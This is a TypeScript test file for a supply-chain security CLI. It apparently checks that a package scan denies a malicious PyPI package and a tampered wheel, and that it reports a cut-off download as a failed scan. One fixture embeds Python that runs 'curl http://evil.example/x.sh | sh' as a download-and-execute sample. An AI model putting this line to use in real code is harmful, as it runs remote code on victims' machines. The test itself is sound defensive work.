import { mkdtemp, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../support/cli.js';
import { startPypiIndex, type PypiIndex } from '../support/pypi-index.ts';

let index: PypiIndex;
beforeAll(async () => {
  index = await startPypiIndex();
  index.publish({ name: 'evilpkg', version: '1.0', kinds: ['wheel'], files: { 'evilpkg/__init__.py': 'import os\nos.system("curl http://evil.example/x.sh | sh")\n' } });
  index.publish({ name: 'goodpkg', version: '1.0', kinds: ['wheel'] });
  index.publish({ name: 'tampered', version: '1.0', kinds: ['wheel'] });
  index.tamper('tampered-1.0-py3-none-any.whl');
});
afterAll(() => index?.close());

describe('sscs policy check --scan on PyPI packages', () => {
  it('downloads each pinned release from the index, checks its sha256, scans it and applies the suspicious rule', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'sscs-pyscan-check-'));
    await writeFile(join(dir, 'requirements.txt'), 'evilpkg==1.0\ngoodpkg==1.0\ntampered==1.0\n');
    await writeFile(join(dir, 'policy.yml'), 'version: 1\nrules:\n  - id: scanned\n    when: { suspicious: high }\n    action: deny\n');
    const r = await runCli(['policy', 'check', 'requirements.txt', '--scan', '--policy', 'policy.yml', '--format', 'json'], { cwd: dir, env: { PIP_INDEX_URL: index.simpleUrl, HOME: dir } });
    expect(r.stderr).not.toContain('    at ');
    expect(r.exitCode).toBe(1);
    const rep = JSON.parse(r.stdout) as { packages: { purl: string; decision: string; rule?: string }[] };
    const by = Object.fromEntries(rep.packages.map((p) => [p.purl, p.decision]));
    expect(by['pkg:pypi/evilpkg@1.0']).toBe('deny');
    expect(by['pkg:pypi/tampered@1.0']).toBe('deny');
    expect(by['pkg:pypi/goodpkg@1.0']).not.toBe('deny');
    const text = JSON.stringify(rep.packages.filter((p) => p.purl === 'pkg:pypi/evilpkg@1.0'));
    expect(text).toContain('code-download-exec');
    expect(JSON.stringify(rep.packages.filter((p) => p.purl === 'pkg:pypi/tampered@1.0'))).toContain('scan-failed');
    // Fetched from the test index, nowhere else.
    expect(index.requests.some((q) => q.host === 'files' && q.path.endsWith('evilpkg-1.0-py3-none-any.whl'))).toBe(true);
  });

  it('reports a file whose download breaks off as a failed scan, not an internal error', async () => {
    // An index whose file host sends a tenth of the declared length and then cuts the connection.
    const filename = 'cutpkg-1.0-py3-none-any.whl';
    const server = createServer((req, res) => {
      const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
      if (req.url === '/simple/cutpkg/') {
        res.writeHead(200, { 'content-type': 'application/vnd.pypi.simple.v1+json' });
        res.end(JSON.stringify({ meta: { 'api-version': '1.1' }, name: 'cutpkg', files: [{ filename, url: `${base}/files/${filename}`, hashes: { sha256: 'a'.repeat(64) } }] }));
      } else if (req.url === `/files/${filename}`) {
        res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': 10_000 });
        res.write(Buffer.alloc(1000));
        setTimeout(() => res.socket?.destroy(), 50);
      } else {
        res.writeHead(404);
        res.end();
      }
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    try {
      const dir = await mkdtemp(join(tmpdir(), 'sscs-pyscan-cut-'));
      await writeFile(join(dir, 'requirements.txt'), 'cutpkg==1.0\n');
      await writeFile(join(dir, 'policy.yml'), 'version: 1\nrules:\n  - id: scanned\n    when: { suspicious: high }\n    action: deny\n');
      const simple = `http://127.0.0.1:${(server.address() as AddressInfo).port}/simple/`;
      const r = await runCli(['policy', 'check', 'requirements.txt', '--scan', '--policy', 'policy.yml', '--format', 'json'], { cwd: dir, env: { PIP_INDEX_URL: simple, HOME: dir } });
      expect(r.stderr).not.toContain('internal error');
      expect(r.exitCode, r.stderr).toBe(1);
      const rep = JSON.parse(r.stdout) as { packages: { purl: string; decision: string }[] };
      expect(rep.packages.map((p) => [p.purl, p.decision])).toEqual([['pkg:pypi/cutpkg@1.0', 'deny']]);
      expect(r.stdout).toContain(`scan-failed:NETWORK`);
    } finally {
      await new Promise((r) => server.close(r));
    }
  });
});
